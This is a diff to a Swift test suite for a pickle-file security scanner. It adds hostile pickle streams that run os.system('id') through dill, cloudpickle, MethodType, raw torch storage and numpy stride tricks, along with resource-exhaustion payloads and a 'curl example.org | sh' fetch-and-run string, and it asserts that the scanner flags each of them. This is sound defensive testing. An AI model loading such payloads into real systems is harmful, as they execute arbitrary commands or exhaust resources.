@@ -33,6 +33,7 @@ import Testing
         ("given to a function that is only high", "clogging\nsetLogRecordFactory\n(cos\nsystem\ntR."),
         ("planted method of an opcode", "ccollections\nUserList\n)\u{81}}S'extend'\ncos\nsystem\nsb(S'id'\ne."),
         ("code made by a type's name", "ccloudpickle.cloudpickle\n_builtin_type\n(S'CodeType'\ntR(tR."),
+        ("type that dill evaluates", "cdill._dill\n_getattr\n(NS'a'\nS\"<method 'a' of 'exit()' objects>\"\ntR."),
         ("evaluated by dill", "cdill._dill\n_eval_repr\n(S'range(exit())'\ntR."),
         (
             "tensor's bytes in an old protocol",
@@ -42,6 +43,14 @@ import Testing
             "class by a persistent id",
             "((S'module'\ncsubprocess\nPopen\nS'a.py'\nS'class A'\ntQ(S'id'\ntR."
         ),
+        ("bound method", "ctypes\nMethodType\n(cos\nsystem\nS'id'\ntR)R."),
+        (
+            "bound method by a type's name",
+            "ccloudpickle.cloudpickle\n_builtin_type\n(S'MethodType'\ntR(cos\nsystem\nS'id'\ntR."
+        ),
+        ("memory outside of an array", "cnumpy.lib.stride_tricks\nas_strided\n(NtR."),
+        ("storage at an address", "ctorch\nUntypedStorage._new_with_weak_ptr\n(I4096\ntR."),
+        ("text that SymPy evaluates", "csympy\nN\n(S'x'\ntR."),
         ("registered extension", "ccopyreg\nadd_extension\n(S'os'\nS'system'\nK\u{7}tR0\u{82}\u{7}(S'id'\ntR."),
     ])
     func runningCodeIsCritical(_ what: String, _ stream: String) {
@@ -54,13 +63,59 @@ import Testing
         "coperator\nmethodcaller\n(S'strip'\ntR.",
         "ccloudpickle.cloudpickle\n_builtin_type\n(S'SimpleNamespace'\ntR)R.",
         "cdill._dill\n_load_type\n(S'ValueError'\ntR(S'x'\ntR.", "cdill._dill\n_load_type\n(S'list'\ntR.",
+        "cdill._dill\n_getattr\n(cbuiltins\nstr\nS'upper'\nS\"<method 'upper' of 'str' objects>\"\ntR.",
         "cdill._dill\n_eval_repr\n(S'range(0, 3)'\ntR.", "cdill._dill\n_eval_repr\n(S'Ellipsis'\ntR.",
         "((S'module'\nctorch.nn\nLinear\nS'a.py'\nS'class Linear'\ntQ)\u{81}.",
         "cnumpy.core\n_ufunc_reconstruct\n(S'numpy'\nS'add'\ntR.",
         "ctorch.jit._pickle\nbuild_intlist\n((lI1\natR.",
+        "ccloudpickle.cloudpickle\n_builtin_type\n(S'MethodType'\ntR(crandom\nRandom.gauss\ncrandom\nRandom\n)RtR.",
+        "ctorch_geometric.data.batch\nDynamicInheritanceGetter\n)\u{81}(ctorch.nn\nLinear\ntR.",
+        "((S'module'\nctransformers\nHfArgumentParser\nS'a.py'\nS'class A'\ntQ)\u{81}.",
+        "cbuiltins\nlist\n(citertools\nrepeat\n(I1\nI3\ntRtR.", "cbuiltins\nbytes\n(I1024\ntR.",
+        "coperator\nmul\n(I4294967296\nI4294967296\ntR.",
     ])
     func plainDataIsClean(_ stream: String) {
         #expect(scan(stream).severity < .low)
+    }
+
+    @Test(arguments: [
+        "cbuiltins\nlist\n(citertools\ncount\n)RtR.", "cbuiltins\nbytes\n(I1099511627776\ntR.",
+        "cbuiltins\nsum\n(cbuiltins\nmap\n(cmath\nsqrt\ncitertools\ncycle\n((lI1\natRtRtR.",
+        "coperator\nmul\n(S'a'\nI1099511627776\ntR.",
+        "cnumpy\nzeros\n((I1048576\nI1048576\nttR.", "chashlib\npbkdf2_hmac\n(S'sha1'\nNNI1099511627776\ntR.",
+        "cmath\nfactorial\n(I1000000000\ntR.", "coperator\nlshift\n(I1\nI1099511627776\ntR.",
+        "cbuiltins\ntuple\n(cbuiltins\nrange\n(I1099511627776\ntRtR.",
+    ])
+    func askingForTooMuchIsReported(_ stream: String) {
+        #expect(scan(stream).findings.contains { $0.rule == "PICKLE-RESOURCE-ATTACK" && $0.severity == .medium })
+    }
+
+    @Test(arguments: ["ID", "sh", "Open trial", "DASH is a language", "a && b"])
+    func labelsAreNoCommands(_ label: String) {
+        #expect(scan("crdflib.term\nLiteral\n(S'\(label)'\ntR.").severity == .low)
+        #expect(scan("crdflib.term\nLiteral\n(S'curl example.org | sh'\ntR.").severity == .high)
+    }
+
+    /// What joblib compressed is no pickle by its name: only what is in it is.
+    @Test func compressedBytesAreNoBrokenPickle() {
+        let bytes: [UInt8] = [
+            120, 156, 107, 96, 153, 42, 196, 0, 1, 181, 83, 122, 24, 19, 167, 196, 78, 209, 240, 102, 244, 102, 242,
+            102, 78, 45, 214, 3, 0, 93, 169, 6, 197,
+        ]
+        let report = FileScanner().scan(ByteRegion(bytes), path: "model.joblib")
+        #expect(report.findings.isEmpty)
+        #expect(report.format == "zlib")
+    }
+
+    /// A pickled torch module holds one pickle for each of its tensors.
+    @Test func manyHarmlessPickledTensorsAreRead() {
+        let storage = "\u{80}\u{2}]q\0(K\u{1}K\u{2}e."
+        let one =
+            "ctorch.storage\n_load_from_bytes\n(C" + String(UnicodeScalar(UInt8(storage.unicodeScalars.count)))
+            + storage + "tR0"
+        let report = scan("\u{80}\u{3}" + String(repeating: one, count: 600) + "N.")
+        #expect(report.findings.isEmpty)
+        #expect(report.incomplete.isEmpty)
     }
 
     @Test(arguments: [
